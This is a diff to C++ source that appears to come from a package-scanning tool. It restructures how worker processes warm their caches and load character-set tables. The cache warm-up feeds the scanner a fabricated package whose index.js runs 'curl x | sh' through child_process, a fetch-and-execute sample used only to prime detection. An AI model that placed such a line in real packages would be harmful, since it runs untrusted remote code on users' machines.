@@ -66,11 +66,16 @@ constexpr char kAccentedZip[] =
     "\000\000\000\000\000\000\000\200\001\000\000\000\000\303\251PK\005\006\000\000\000"
     "\000\001\000\001\000\060\000\000\000\040\000\000\000\000\000";
 
-// Fills caches that every worker would have to fill again: tables, patterns, the encoder's code.
-// Some it could not fill: the tables of a character set are files.
-void warm_up(const Model& model, const ScanOptions& options) {
+// What no worker could do for itself: the tables of a character set are files.
+void load_character_sets() {
   constexpr std::string_view kZip(kAccentedZip, sizeof kAccentedZip - 1);
-  FileTree tree = read_bytes(kZip, {}, {}).value_or(FileTree());
+  static_cast<void>(read_bytes(kZip, {}, {}));
+}
+
+// Fills caches that every worker would have to fill again: tables and patterns. It costs more than
+// a small package, so the first worker, which may be the last, does not wait for it.
+void warm_up(const Model& model, const ScanOptions& options) {
+  FileTree tree;
   tree.files.push_back({"package/index.js",
                         "const c = require('child_process'); c.exec(process.env.A + 'curl x | sh')",
                         false, false});
@@ -102,8 +107,9 @@ void forget_environment() {
   close(STDIN_FILENO);
   close(STDOUT_FILENO);
   for (const int fd : {STDIN_FILENO, STDOUT_FILENO}) dup2(STDERR_FILENO, fd);
-  warm_up(model, options);
+  load_character_sets();
   forget_environment();
+  size_t started = 0;
   Order order;
   while (recv(kSocket, &order, sizeof order, 0) == static_cast<ssize_t>(sizeof order)) {
     Done done;
@@ -111,6 +117,7 @@ void forget_environment() {
     if (order.what == Order::What::kReap) {
       done.pid = waitpid(order.pid, &done.value, 0);
     } else {
+      if (++started == 2) warm_up(model, options);
       int ends[2];
       if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, ends) == 0) {
         ours = Descriptor(ends[0]);
